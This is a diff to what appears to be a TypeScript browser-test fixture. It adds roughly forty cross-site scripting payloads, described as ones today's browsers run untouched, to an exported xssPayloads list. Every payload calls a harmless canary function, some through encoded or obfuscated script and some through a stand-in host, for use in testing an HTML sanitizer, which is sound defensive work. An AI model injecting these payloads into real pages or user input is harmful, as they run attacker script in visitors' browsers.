@@ -1,5 +1,5 @@
 /**
- * Markup that has run script somewhere, or shows a reader what is not ours: two hundred of them. Each calls `canary`,
+ * Markup that has run script somewhere, or shows a reader what is not ours: more than two hundred. Each calls `canary`,
  * names it, or hides it, so that a browser test can wait for it as well.
  */
 
@@ -251,7 +251,56 @@ const broken = [
   '<table><a href=javascript:canary(1)>x<tr><td><img src=x onerror=canary(1)></table>',
 ]
 
+/** What today's browsers run without being touched. */
+const prompt = [
+  '<body onload=canary(1)>',
+  '<body onpageshow=canary(1)>',
+  '<style onload=canary(1)>p{}</style>',
+  '<iframe onload=canary(1)></iframe>',
+  '<iframe src=about:blank onload=canary(1)></iframe>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.canary(1)&gt;"></iframe>',
+  '<iframe srcdoc="&lt;svg onload=canary(1)&gt;" sandbox="allow-scripts"></iframe>',
+  '<object data=x onerror=canary(1)></object>',
+  '<link rel=stylesheet href=x onerror=canary(1)>',
+  '<link rel=preload as=script href=https://canary.example/x.js onload=canary(1)>',
+  '<script src=x onerror=canary(1)></script>',
+  '<script src=https://canary.example/x.js onload=canary(1)></script>',
+  '<script type=module src=https://canary.example/x.js></script>',
+  '<script type=module>canary(1)</script>',
+  '<script>window["canary"](1)</script>',
+  '<script>Function("canary(1)")()</script>',
+  '<script>eval(atob("Y2FuYXJ5KDEp"))</script>',
+  '<script>setTimeout("canary(1)")</script>',
+  '<script>location="javascript:canary(1)"</script>',
+  '<script>document.write("<img src=x onerror=canary(1)>")</script>',
+  '<script>document.body.innerHTML="<img src=x onerror=canary(1)>"</script>',
+  '<script>new Image().src="x",new Image().onerror=canary(1)</script>',
+  '<script>import("https://canary.example/x.js")</script>',
+  '<script>[1].map(canary)</script>',
+  '<script>canary`1`</script>',
+  '<script>top["can"+"ary"](1)</script>',
+  '<script>onerror=canary;throw 1</script>',
+  '<script>Reflect.apply(canary,0,[1])</script>',
+  '<svg><animate onend=canary(1) attributeName=x dur=.001s></svg>',
+  '<svg><script>canary&#40;1&#41;</script></svg>',
+  '<svg><script>&#99;anary(1)</script></svg>',
+  '<svg><style onload=canary(1)></style></svg>',
+  '<video onloadstart=canary(1)><source src=x></video>',
+  '<video src=x onerror=canary(1) autoplay muted></video>',
+  '<audio src onloadstart=canary(1)>',
+  '<video><track default src=x onerror=canary(1)></video>',
+  '<textarea onfocus=canary(1) autofocus>x</textarea>',
+  '<a href=x onfocus=canary(1) autofocus>here</a>',
+  '<button popovertarget=b>here</button><div popover id=b onbeforetoggle=canary(1)>text</div>',
+  '<input type=hidden oncontentvisibilityautostatechange=canary(1) style="content-visibility:auto">',
+  '<img src=data:, onerror=canary(1)>',
+  '<img src=x onerror="[1].find(canary)">',
+  '<img src=x onerror=&#x63;&#x61;nary&lpar;1&rpar;>',
+  '<img src=x onerror="setTimeout(&apos;canary(1)&apos;)">',
+]
+
 export const xssPayloads: readonly string[] = [
+  ...prompt,
   ...handlers,
   ...openers,
   ...images,
